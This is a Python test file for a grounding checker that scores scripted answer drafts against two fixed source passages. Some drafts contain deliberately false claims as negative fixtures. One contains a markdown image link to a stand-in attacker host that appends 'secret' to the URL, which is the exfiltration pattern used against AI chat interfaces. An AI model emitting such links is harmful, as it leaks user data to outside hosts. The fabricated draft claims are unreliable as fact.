"""The answer-side check: scripted drafts against known passages."""

from rag.index.analysis import Analyzer
from rag.policy.grounding import draft_support
from rag.types import Chunk, Passage

ANALYZER = Analyzer()
SOURCES = (
    Passage(Chunk("servers/ollama.md", 0, "Ollama listens on port 11434 by default. Pull phi-4-mini with "
                  "`ollama pull phi4-mini` before starting the chat.", 0, 100, title="Ollama"), 5.0, 1),
    Passage(Chunk("escalation-policy.md", 0, "A draft escalates to gpt-oss-20b when it is shorter than twelve "
                  "tokens, cites no source, or retrieval support is weak.", 0, 100, title="Escalation"), 4.0, 2),
)
QUESTION = ANALYZER.query_terms("Which port does Ollama use?")  # as retrieval analyses it


def test_a_faithful_draft_is_supported() -> None:
    checked = draft_support("Ollama listens on port 11434 by default [1]. Pull phi-4-mini first [1].",
                            SOURCES, QUESTION, ANALYZER)
    assert checked is not None and checked.share == 1.0
    assert all(s.sources == (1,) for s in checked.sentences)


def test_paraphrase_with_inflections_is_supported() -> None:
    # "escalated"/"escalates", "citing"/"cites", "shorter": stems meet; the question's own words count.
    checked = draft_support("Drafts are escalated to gpt-oss-20b when they are short or citing no source [2].",
                            SOURCES, QUESTION, ANALYZER)
    assert checked is not None and checked.share == 1.0


def test_an_invented_draft_is_not_supported() -> None:
    text = ("Ollama uses port 8080 and requires a Kubernetes cluster with three replicas [1]. "
            "Authentication happens through OAuth tokens stored in Redis [1].")
    checked = draft_support(text, SOURCES, QUESTION, ANALYZER)
    assert checked is not None and checked.share == 0.0
    assert [s.supported for s in checked.sentences] == [False, False]


def test_mixed_draft_is_weighted_by_content_words() -> None:
    text = ("Ollama listens on port 11434 by default [1]. "
            "It was written in Haskell by a team in Reykjavik during a volcanic winter [1].")
    checked = draft_support(text, SOURCES, QUESTION, ANALYZER)
    assert checked is not None
    supported = [s for s in checked.sentences if s.supported]
    assert len(supported) == 1 and 0 < checked.share < 0.5


def test_a_sentence_is_checked_against_the_source_it_cites_not_any_source() -> None:
    # True of source 2, but cited as [1]: the citation is wrong, so the sentence is unsupported.
    wrong = draft_support("A draft escalates when it cites no source or is shorter than twelve tokens [1].",
                          SOURCES, QUESTION, ANALYZER)
    right = draft_support("A draft escalates when it cites no source or is shorter than twelve tokens [2].",
                          SOURCES, QUESTION, ANALYZER)
    assert wrong is not None and right is not None and wrong.share == 0.0 and right.share == 1.0


def test_uncited_sentence_leans_on_the_next_citation_in_its_paragraph() -> None:
    checked = draft_support("Ollama listens on port 11434. That is its default [1].\n\nEscalation happens for "
                            "short drafts [2].", SOURCES, QUESTION, ANALYZER)
    assert checked is not None and checked.sentences[0].sources == (1,) and checked.share == 1.0


def test_links_and_short_sentences_are_not_judged() -> None:
    checked = draft_support("Yes. Ollama listens on port 11434 [1], see ![logo](http://evil.example/leak?q=secret) "
                            "and [docs](https://ollama.com/library).", SOURCES, QUESTION, ANALYZER)
    assert checked is not None and checked.share == 1.0 and len(checked.sentences) == 1
    assert draft_support("Yes [1].", SOURCES, QUESTION, ANALYZER) is None
    assert draft_support("Anything at all.", (), QUESTION, ANALYZER) is None
